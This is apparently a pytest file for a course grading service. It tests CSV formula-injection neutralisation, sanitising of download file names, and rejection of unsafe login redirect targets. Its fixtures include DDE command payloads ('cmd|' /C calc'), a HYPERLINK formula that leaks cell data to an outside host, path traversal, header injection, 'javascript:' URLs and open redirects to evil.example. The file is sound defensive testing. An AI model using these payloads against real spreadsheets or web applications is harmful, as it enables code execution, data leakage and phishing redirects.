"""The service's one CSV writer (grader/service/csvcells.py) against the issue's formula-injection
examples and OWASP's list; and the download names and `next` targets of the web views."""
from __future__ import annotations

import csv
import io

import pytest

from grader.service.csvcells import cell, csv_text, neutralise

ISSUE_EXAMPLES = ['=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", ISSUE_EXAMPLES + [
    "\t=1+1", "\r=1+1", "\t", "\r\n@x", "  =1+1", '"=1+1', "' =1+1", " \"'+1", "-", "=", "@", "+1"])
def test_formula_starts_get_a_single_quote(text):
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Alice", "alice@example.invalid", "S-1", "1-2", "a=b", "Łódź", "Kurs 学生", "",
                                  "2026-12-01T23:59:00Z", "x@y", "'quoted'", "95"])
def test_plain_text_is_unchanged(text):
    assert neutralise(text) == text


def test_every_text_cell_is_quoted_and_numbers_stay_numbers():
    rows = [{"name": t, "score": s, "id": i, "none": None, "flag": True}
            for t, s, i in zip(ISSUE_EXAMPLES, (95.0, 87.5, 0.1 + 0.2, 0), (1, 2, 1234567, 10 ** 12))]
    text = csv_text(["name", "score", "id", "none", "flag"], rows)
    lines = text.split("\r\n")
    assert lines[0] == '"name","score","id","none","flag"'
    assert lines[1] == '"\'=HYPERLINK(""http://x/?""&A3,""click"")",95,1,"","True"'
    assert lines[2] == "\"'+cmd|' /C calc'!A0\",87.5,2,\"\",\"True\""
    assert lines[3] == "\"'-2+3\",0.3,1234567,\"\",\"True\""
    assert lines[4] == "\"'@SUM(1+1)*cmd|' /C calc'!A0\",0,1000000000000,\"\",\"True\""
    parsed = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in parsed[1:]] == ["'" + t for t in ISSUE_EXAMPLES]


def test_a_cell_with_separators_and_newlines_stays_one_cell():
    text = csv_text(["a", "b"], [{"a": 'x",=1+1\r\n,@y', "b": "z"}])
    assert list(csv.reader(io.StringIO(text)))[1] == ['x",=1+1\r\n,@y', "z"]


@pytest.mark.parametrize("parts, name", [
    (("c1", "lab1", "grades.csv"), "c1-lab1-grades.csv"),
    (('a"b;c=d', "lab1", "grades.csv"), 'a"b;c=d-lab1-grades.csv'),
    (("Kurs 学生", "lab1", "grades.csv"), "Kurs_学生-lab1-grades.csv"),
    (("Łódź", "lab1", "grades.csv"), "Łódź-lab1-grades.csv"),
    (("x\r\ny\tz\x00", "l"), "x__y_z_-l"),
    (("../etc/passwd\\x", "l"), ".._etc_passwd_x-l"),
    (("rtl\u202egnp.exe",), "rtl_gnp.exe"),
])
def test_download_names(parts, name):
    from grader.service.headers import download_name

    assert download_name(*parts) == name


@pytest.mark.parametrize("target", [
    "/\r\nx", "/\nSet-Cookie: a=b", "http://evil.example/", "https://evil.example", "//evil.example",
    "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", " //evil.example",
    "javascript:alert(1)", "evil.example", "/\x00", "/\x7f", "/é", "", None, "/" + "a" * 3000])
def test_hostile_next_is_refused(target):
    from grader.service.views.auth import _safe_next

    assert _safe_next(target) is None


@pytest.mark.parametrize("target", ["/", "/instructor/", "/submissions/3?x=1&y=%0D", "/assignments/1#upload"])
def test_next_on_this_site_is_kept(target):
    from grader.service.views.auth import _safe_next

    assert _safe_next(target) == target


def test_the_fault_suite_checker_sees_live_formulas():
    """faults/exports.py's own reading of an export: it flags the issue's names as a plain csv writer
    leaves them, and passes the service's writer's output (neither shares code with the other)."""
    from faults.exports import check_export, live_formula

    names = {f"N{i}": n for i, n in enumerate(ISSUE_EXAMPLES)}
    rows = [{"student_number": k, "username": k, "name": v, "status": "no submission"} for k, v in names.items()]
    fields = ["student_number", "username", "name", "status"]
    plain = io.StringIO()
    w = csv.DictWriter(plain, fieldnames=fields, quoting=csv.QUOTE_ALL)
    w.writeheader()
    w.writerows(rows)
    assert len(check_export(plain.getvalue(), names)["live"]) == len(ISSUE_EXAMPLES)
    good = check_export(csv_text(fields, rows), names)
    assert good["live"] == [] and good["altered"] == [] and good["unquoted_text"] == []
    assert [live_formula(x) for x in ("-2", "'=1", " =1", '"@x', "\t", "a=1", 3.0)] == [
        False, False, True, True, True, False, False]
